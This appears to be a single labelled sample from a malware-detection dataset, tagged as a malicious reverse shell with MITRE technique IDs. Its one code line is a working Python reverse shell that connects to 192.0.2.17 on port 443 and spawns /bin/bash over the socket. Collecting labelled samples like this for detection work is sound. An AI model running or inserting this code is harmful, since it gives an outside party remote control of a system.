# label: malicious family=revshell techniques=T1059.004,T1095 lines=2
import pty,socket,os;s=socket.socket();s.connect(("192.0.2.17",443));[os.dup2(s.fileno(),x) for x in range(3)];pty.spawn("/bin/bash")
